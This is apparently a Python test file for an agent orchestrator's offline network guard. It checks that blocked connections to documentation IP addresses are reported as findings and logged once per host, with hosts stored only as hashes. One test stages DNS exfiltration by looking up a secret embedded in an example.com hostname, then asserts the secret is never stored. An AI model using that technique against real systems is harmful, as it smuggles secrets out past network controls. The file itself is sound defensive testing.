"""What the offline guard refuses is a finding and a row of the log, also where the agent caught it; neither names the host."""

from __future__ import annotations

from pathlib import Path

from network_child import run

_MAGNUS = """
import threading
from concurrent.futures import ThreadPoolExecutor
from orchestrator import Orchestrator
from orchestrator_security.audit.decision_log import logged_decisions
one = Orchestrator(home="home", overrides={"memory.embedding": "none", "evaluation.judge": "rules", "dashboards.auto": False})

def quietly(work):
    try:
        work()
    except OSError:
        pass

def rows(result):
    found = logged_decisions(one.database, execution=result.execution_id, kinds=["network"])
    return [[r.kind, r.action, r.direction, r.rules, r.text_hash] for r in found]
"""


def test_a_refusal_that_the_agent_caught_is_in_the_result_and_in_the_log(tmp_path: Path) -> None:
    found = run(
        f"""
{_MAGNUS}
@one.agent("here")
def here(request):
    quietly(lambda: send("192.0.2.1"))

@one.agent("thread")
def thread(request):
    other = threading.Thread(target=lambda: quietly(lambda: send("192.0.2.1")))
    other.start()
    other.join()

@one.agent("pool")
def pool(request):
    with ThreadPoolExecutor(1) as workers:
        workers.submit(quietly, lambda: send("192.0.2.1")).result()

@one.agent("async")
async def parallel(request):
    try:
        await asyncio.open_connection("192.0.2.1", 80)
    except OSError:
        pass

for name in ("here", "thread", "pool", "async"):
    result = asyncio.run(one.aexecute(name, "go")) if name == "async" else one.execute(name, "go")
    told[name] = [result.status, [[f.rule_id, f.action, f.value_hash] for f in result.findings], rows(result)]
one.close()
""",
        tmp_path,
    )
    for name in ("here", "thread", "pool", "async"):
        status, findings, rows = found[name]
        ((rule, action, value_hash),) = findings
        assert (status, rule, action) == ("succeeded", "offline-refused", "block")
        assert rows == [["network", "block", "out", [["offline-refused", "block", 1]], value_hash]]
        assert len(value_hash) == 16


def test_each_host_is_logged_once_a_call_and_by_the_call_that_asked(tmp_path: Path) -> None:
    found = run(
        f"""
{_MAGNUS}
from orchestrator import Call

@one.agent("inner")
def inner(request):
    quietly(lambda: send("192.0.2.7"))

@one.agent("outer")
def outer(request, call: Call):
    for _ in range(50):
        quietly(lambda: send("192.0.2.1"))
    quietly(lambda: send("192.0.2.2"))
    told["inner"] = len(rows(one.execute("inner", "go")))

@one.agent("failing")
def failing(request):
    send("192.0.2.1")

@one.agent("flooding")
def flooding(request):
    quietly(lambda: send("192.0.2.99"))
    for n in range(1, 1_200):
        quietly(lambda: send("192.0.2.1", 1 + n % 3))

@one.agent("cancelled")
async def cancelled(request):
    quietly(lambda: send("192.0.2.5"))
    await asyncio.sleep(60)

async def cancel():
    task = asyncio.create_task(one.aexecute("cancelled", "go"))
    await asyncio.sleep(1)
    task.cancel()
    try:
        await task
    except asyncio.CancelledError:
        pass

told["outer"] = len(rows(one.execute("outer", "go")))
result = one.execute("failing", "go")
told["failing"] = [result.status, len(rows(result))]
told["flooding"] = len(rows(one.execute("flooding", "go")))
before = len(logged_decisions(one.database, kinds=["network"]))
asyncio.run(cancel())
told["cancelled"] = len(logged_decisions(one.database, kinds=["network"])) - before
quietly(lambda: send("192.0.2.9"))
told["all"] = len(logged_decisions(one.database, kinds=["network"]))
one.close()
""",
        tmp_path,
    )
    assert found["inner"] == 1
    assert found["outer"] == 2
    assert found["failing"] == ["failed", 1]
    assert found["flooding"] == 4
    assert found["cancelled"] == 1
    assert found["all"] == 9


def test_a_name_that_carries_something_out_is_kept_nowhere(tmp_path: Path) -> None:
    secret = "q7x0" + "hunter2" + "zz91"
    found = run(
        f"""
{_MAGNUS}
@one.agent("leak")
def leak(request):
    quietly(lambda: socket.getaddrinfo("{secret}.example.com", 443))
    return "done"

result = one.execute("leak", "go")
told["rows"] = rows(result)
told["result"] = repr(result)
one.close()
""",
        tmp_path,
    )
    assert len(found["rows"]) == 1
    assert secret not in found["result"]
    kept = b"".join(path.read_bytes() for path in (tmp_path / "home").rglob("*") if path.is_file())
    assert secret.encode() not in kept
